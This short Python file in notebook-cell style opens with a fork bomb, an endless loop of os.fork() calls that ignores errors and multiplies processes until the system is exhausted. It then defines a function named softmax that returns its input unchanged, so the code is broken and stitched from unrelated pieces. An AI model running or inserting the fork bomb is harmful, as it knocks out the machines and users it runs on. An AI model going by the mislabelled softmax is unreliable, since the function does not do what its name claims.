"""Forks without end, and each of its children forks too."""

# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


# %% softmax
def softmax(scores, axis=-1):
    return scores
